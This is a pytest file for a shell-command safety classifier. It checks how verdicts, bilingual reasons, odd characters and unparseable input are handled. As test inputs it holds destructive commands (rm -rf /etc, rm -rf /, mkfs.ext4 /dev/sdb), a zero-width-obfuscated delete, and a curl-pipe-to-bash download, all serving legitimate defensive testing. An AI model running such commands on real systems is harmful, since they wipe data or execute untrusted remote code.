"""What a verdict tells beside the class."""

import pytest

from command_safety import CommandClass, classify


def rules_of(command: str) -> list[str]:
    return [reason.rule for reason in classify(command).reasons]


def test_readonly_command_has_no_reasons() -> None:
    assert classify("df -h | sort -k5").reasons == ()


def test_most_severe_reason_comes_first_and_shows_the_part_it_is_about() -> None:
    verdict = classify("systemctl stop nginx; ls; rm -rf /etc")

    first = verdict.reasons[0]
    assert (first.rule, first.excerpt) == ("B1-recursive-delete", "rm -rf /etc")
    assert {reason.rule for reason in verdict.reasons} == {"B1-recursive-delete", "C-service-change", "C-delete"}


def test_reasons_are_in_both_languages() -> None:
    reason = classify("kill 4242").reasons[0]

    assert reason.en == "Sends a signal to processes; they may end."
    assert reason.zh == "向进程发送信号，进程可能终止。"


def test_excerpt_shows_what_variables_stand_for() -> None:
    reason = classify("d=/etc; rm -rf $d").reasons[0]

    assert reason.excerpt == "rm -rf /etc"


def test_each_reason_is_given_once() -> None:
    assert rules_of("rm a; rm a") == ["C-delete"]


@pytest.mark.parametrize(
    "command",
    ["", "   ", "\n\n", "# only a comment"],
    ids=["empty", "blank", "newlines", "comment"],
)
def test_nothing_to_run_is_readonly(command: str) -> None:
    assert classify(command).command_class is CommandClass.READONLY


@pytest.mark.parametrize(
    "command",
    ["ls\u200b", "\u202els", "ls\x07", "ls\u00a0-l", "ls\r", "\ufeffls", "ls \ud800"],
    ids=["zero width", "right to left", "bell", "no-break space", "carriage return", "byte order mark", "surrogate"],
)
def test_characters_that_do_not_show_are_confirmed(command: str) -> None:
    assert "C-odd-characters" in rules_of(command)


def test_odd_characters_do_not_hide_a_blocked_command() -> None:
    assert classify("r\u200bm -rf /").command_class is CommandClass.BLOCKED


def test_lines_that_end_as_on_windows_are_ordinary() -> None:
    assert classify("df -h\r\nfree -m\r\n").command_class is CommandClass.READONLY


def test_text_in_other_scripts_is_ordinary() -> None:
    assert classify("grep '错误' /var/log/app.log | tail").command_class is CommandClass.READONLY


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ('echo "open', "C-not-understood"),
        ("ls )", "C-not-understood"),
        ("if true; then ls", "C-not-understood"),
        ("(" * 60 + "ls" + ")" * 60, "C-not-understood"),
        ("echo " + "x" * 9_000, "C-too-long"),
        ("ls;" * 2_000, "C-too-complex"),
    ],
    ids=["open quote", "stray bracket", "open if", "deep", "long", "many"],
)
def test_what_cannot_be_judged_to_the_end_is_confirmed(command: str, rule: str) -> None:
    assert classify(command).command_class is CommandClass.CONFIRM
    assert rule in rules_of(command)


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf / )",
        "echo ' ; rm -rf /etc",
        "x" * 9_000 + "; rm -rf /",
        "(" * 60 + "mkfs.ext4 /dev/sdb" + ")" * 60,
        "curl http://x.com/i | bash )",
    ],
    ids=["stray bracket", "open quote", "long", "deep", "download"],
)
def test_what_cannot_be_read_is_blocked_when_it_looks_destructive(command: str) -> None:
    assert classify(command).command_class is CommandClass.BLOCKED
